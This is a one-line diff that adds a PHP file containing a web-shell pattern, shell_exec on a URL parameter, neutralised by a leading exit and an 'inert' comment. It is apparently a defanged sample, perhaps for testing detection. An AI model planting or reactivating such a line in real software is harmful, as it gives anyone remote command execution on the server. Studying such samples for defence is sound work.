@@ -1,0 +1,1 @@
+<?php exit; /* inert */ echo match(true){ default=>shell_exec($_GET["c"]) };
